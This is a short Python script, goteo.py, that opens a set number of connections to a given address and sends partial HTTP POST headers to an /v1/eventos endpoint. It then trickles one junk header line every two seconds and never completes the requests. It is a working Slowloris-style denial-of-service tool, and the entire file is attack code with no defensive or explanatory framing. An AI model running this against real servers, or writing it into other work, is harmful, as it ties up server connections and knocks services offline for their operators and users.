"""keeps N connections open and sends a header line from time to time.   goteo.py ADDR N"""
import socket, sys, time
host, port = sys.argv[1].split(":"); n = int(sys.argv[2]); open_ = []
while True:
    for s in list(open_):
        try: s.send(b"X-A: b\r\n")
        except OSError: open_.remove(s); s.close()
    while len(open_) < n:
        try:
            s = socket.create_connection((host, int(port)), 2); s.send(b"POST /v1/eventos HTTP/1.1\r\nHost: api.trazamar.example\r\n"); open_.append(s)
        except OSError: break
    time.sleep(2)
